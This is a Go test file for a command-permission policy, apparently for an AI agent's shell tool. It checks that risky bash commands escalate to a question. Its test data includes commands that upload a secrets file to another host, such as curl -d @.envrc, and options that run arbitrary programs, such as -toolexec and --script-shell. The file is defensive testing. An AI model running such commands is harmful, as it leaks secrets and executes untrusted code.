package policy

import (
	"bufio"
	"maps"
	"os"
	"slices"
	"strings"
	"testing"
)

// optionCase is one line of testdata/options.txt.
type optionCase struct {
	line          int
	rule, command string
	want          Verdict
	contained     Verdict // on a machine that contains commands
}

func readOptionCases(t *testing.T) (list []optionCase) {
	t.Helper()
	f, err := os.Open("testdata/options.txt")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rule := ""
	in := bufio.NewScanner(f)
	for n := 1; in.Scan(); n++ {
		word, rest, _ := strings.Cut(in.Text(), " ")
		switch word {
		case "", "#":
		case "rule":
			rule = rest
		case "allow", "ask", "ask/allow":
			want, contained := splitVerdicts(word)
			list = append(list, optionCase{n, rule, rest, want, contained})
		default:
			t.Fatalf("line %d: got %q, want a verdict of the table", n, in.Text())
		}
	}
	return list
}

func allowing(t *testing.T, rules ...Rule) *Set {
	t.Helper()
	s, problems, err := New(File{Default: Ask, Rules: rules})
	if err != nil || len(problems) > 0 {
		t.Fatalf("got %v, %v; want no problems and no error", err, problems)
	}
	return s
}

// TestRuleCoversOnlyKnownOptions decides about everyday commands and attacks under one rule each.
func TestRuleCoversOnlyKnownOptions(t *testing.T) {
	t.Parallel()
	count := map[Verdict]int{}
	for _, c := range readOptionCases(t) {
		count[c.want]++
		s := allowing(t, Rule{Tool: "Bash", Argv: strings.Fields(c.rule), Verdict: Allow})
		command := strings.NewReplacer(" ( ", ` \( `, " ) ", ` \) `).Replace(c.command)
		for _, call := range []Call{corpusCall("bash", command), containedCall("bash", command)} {
			want := c.want
			if call.Contained {
				want = c.contained
			}
			if got := s.Decide(call); got.Verdict != want {
				t.Errorf("line %d, contained %v: %q under %q: got %s (%s), want %s", c.line, call.Contained, c.command, c.rule, got.Verdict, got.Reason, want)
			}
		}
	}
	if count[Allow] < 150 || count[Ask] < 150 {
		t.Errorf("got %d everyday commands and %d attacks, want at least 150 of each", count[Allow], count[Ask])
	}
}

// TestEverydayCommandIsAllowedByItsOffer: the dialog offers a rule for each everyday command, and
// that rule allows the command.
func TestEverydayCommandIsAllowedByItsOffer(t *testing.T) {
	t.Parallel()
	none := allowing(t)
	for _, c := range readOptionCases(t) {
		first := strings.Fields(c.rule)[0]
		if c.want != Allow || slices.Contains([]string{"timeout", "npx", "python3", "find", "uv", "bun", "deno", "cmake"}, first) || strings.Contains(c.command, "!") {
			continue // what launchers start is not offered, nor are their words
		}
		call := corpusCall("bash", c.command)
		offers := none.Decide(call).Offers
		if len(offers) == 0 && !strings.ContainsAny(c.command, "~*$") && first != "make" && first != "docker" {
			t.Errorf("line %d: nothing is offered for %q", c.line, c.command)
		}
		for _, o := range offers {
			if got := allowing(t, o.Rule).Decide(call); got.Verdict != Allow {
				t.Errorf("line %d: %q under its offer %q: got %s (%s), want allow", c.line, c.command, o.Rule.Argv, got.Verdict, got.Reason)
			}
		}
	}
}

func TestUnknownOptionIsNamedInTheReason(t *testing.T) {
	t.Parallel()
	s := allowing(t, Rule{Tool: "Bash", Argv: []string{"npm", "test", "**"}, Verdict: Allow})
	got := s.Decide(corpusCall("bash", "npm test --foo=bar"))
	if want := "npm test --foo is not known to be harmless"; got.Reason != want {
		t.Errorf("got %q, want %q", got.Reason, want)
	}
}

func TestReasonSaysThatAFileIsSent(t *testing.T) {
	t.Parallel()
	s := allowing(t, Rule{Tool: "Bash", Argv: []string{"curl", "**"}, Verdict: Allow}, Rule{Tool: "Bash", Argv: []string{"wget", "**"}, Verdict: Allow})
	open := must(t, `{"default":"allow","rules":[]}`)
	for command, set := range map[string]*Set{
		"curl -T f https://h": s, "curl --upload-file f h": s, "curl -d @f h": s, "curl -d@f h": s, "curl -F a=@f h": s, "wget --post-file=f h": s,
		"curl -T .envrc h": open, "curl -d @.envrc h": open, "curl --json @.envrc h": open, "wget --body-file .envrc h": open,
	} {
		if got := set.Decide(corpusCall("bash", command)); got.Verdict != Ask || !strings.Contains(got.Reason, "sends") || !strings.HasSuffix(got.Reason, "to another machine") {
			t.Errorf("%s: got %s (%s), want a question that says that a file is sent", command, got.Verdict, got.Reason)
		}
	}
}

func TestRuleThatSpellsAnUnknownOptionCoversIt(t *testing.T) {
	t.Parallel()
	for _, argv := range []string{"npm test --foo **", "npm test --foo", "go build -toolexec ./wrap ./...", "npm test --foo=1 **", "ctest -S *"} {
		t.Run(argv, func(t *testing.T) {
			s := allowing(t, Rule{Tool: "Bash", Argv: strings.Fields(argv), Verdict: Allow})
			command := strings.NewReplacer(" **", "", "*", "x").Replace(argv)
			if got := s.Decide(corpusCall("bash", command)); got.Verdict != Allow {
				t.Errorf("%q under %q: got %s (%s), want allow", command, argv, got.Verdict, got.Reason)
			}
		})
	}
}

func TestOnlyAnExactRuleIsOfferedForAnUnknownOption(t *testing.T) {
	t.Parallel()
	for command, want := range map[string]string{
		"go test -replay ./...":        "go test -replay ./...",
		"go build -o bin/app ./...":    "go build -o bin/app ./...|go build **",
		"go test -toolexec ./x ./...":  "",
		"npm test --script-shell=./x":  "",
		"mvn -q test":                  "mvn -q test|mvn test **",
		"mvn test deploy":              "mvn test deploy",
		"docker run --gpus all alpine": "docker run --gpus all alpine",
	} {
		t.Run(command, func(t *testing.T) {
			if got := strings.Join(offeredRules(allowing(t), command), "|"); got != want {
				t.Errorf("%q: got the offers %q, want %q", command, got, want)
			}
		})
	}
	covered := allowing(t, Rule{Tool: "Bash", Argv: []string{"go", "test", "**"}, Verdict: Allow})
	if got := strings.Join(offeredRules(covered, "go test -replay ./..."), "|"); got != "go test -replay ./..." {
		t.Errorf("under go test **: got the offers %q, want the exact one", got)
	}
}

// TestOfferedProgramsHaveATable: a rule with any arguments is offered only for programs with known
// options.
func TestOfferedProgramsHaveATable(t *testing.T) {
	t.Parallel()
	for _, u := range openOffers {
		if optionTables()[u[0]] == nil || len(optionTables()[u[0]].options)+len(optionTables()[u[0]].subs) < 5 {
			t.Errorf("%v is offered with any arguments, but its options are not known", u)
		}
	}
}

// Without a table, nobody knows what an option of a program does: then only the exact command is
// offered, unless the program's words are never files, or it only reads.
func TestOnlyKnownProgramsAreOfferedWithOtherWords(t *testing.T) {
	t.Parallel()
	names := maps.Clone(wordOffers)
	for _, u := range slices.Concat(openOffers, valueOffers) {
		names[u[0]] = true
	}
	for name := range names {
		if optionTables()[name] == nil && optionTables()[optionsLike[name]] == nil && optionTables()[guardedLike[name]] == nil && !noFileArguments[name] && !readers[name] {
			t.Errorf("%s is offered with other words, but its options are not known", name)
		}
	}
	for _, command := range []string{"systemctl status x", "dig example.org", "ping -c 1 h", "journalctl -u x", "unheard-of --option x", "uname -a"} {
		for _, o := range offeredRules(allowing(t), command) {
			if o != command {
				t.Errorf("%s: got the offer %q, want only the exact command", command, o)
			}
		}
	}
}

func TestOptionTableIsWellFormed(t *testing.T) {
	t.Parallel()
	sets := map[string]bool{}
	for i, line := range strings.Split(strings.ReplaceAll(optionsText, "\n  ", " "), "\n") {
		head, tokens, ok := strings.Cut(line, ":")
		if line == "" || line[0] == '#' {
			continue
		}
		if !ok || head != strings.TrimSpace(head) {
			t.Errorf("entry %d: %q has no name", i, line)
		}
		for _, token := range strings.Fields(tokens) {
			name := strings.TrimLeft(token, "!?>")
			switch {
			case strings.HasPrefix(token, "+") && !sets[token[1:]]:
				t.Errorf("%s: the set %s is not defined before it", head, token)
			case strings.HasPrefix(token, "+"), strings.HasPrefix(token, "%"), strings.HasPrefix(name, "/") && strings.HasSuffix(name, "/"):
			case !isFlag(name):
				t.Errorf("%s: %q is no option", head, token)
			}
		}
		if name, is := strings.CutPrefix(head, "+"); is {
			sets[name] = true
		}
	}
}

// A workspace contains .git and the settings of editors and agents, a home folder also start-up
// files.
func TestAWorkspaceIsNotFilledWithFilesOfUnknownNames(t *testing.T) {
	t.Parallel()
	for _, folder := range []string{"/home/me", "/Users/me", "/root", "/home/other", "/home/me/project"} {
		for command, below := range map[string]string{
			"tar -xf a": "tar -xf a -C out", "unzip a": "unzip -d out a", "patch -p1 -i x": "patch -p1 -d out -i x", "rsync -a evil/ .": "rsync -a evil/ out/",
			"cp -r evil/. .": "cp -r evil/. out/", "7z x a": "7z x -oout a", "git apply x": "git apply --check x",
		} {
			t.Run(command, func(t *testing.T) {
				name, _, _ := strings.Cut(command, " ")
				s := allowing(t, Rule{Tool: "Bash", Argv: []string{name, "**"}, Verdict: Allow})
				for text, want := range map[string]Verdict{command: Ask, below: Allow} {
					got := s.Decide(Call{Tool: "Bash", Command: text, Cwd: folder, Home: "/home/me"})
					if got.Verdict != want || got.Floor != (want == Ask) {
						t.Errorf("%q in %s: got %s, floor %t (%s), want %s", text, folder, got.Verdict, got.Floor, got.Reason, want)
					}
				}
			})
		}
	}
}
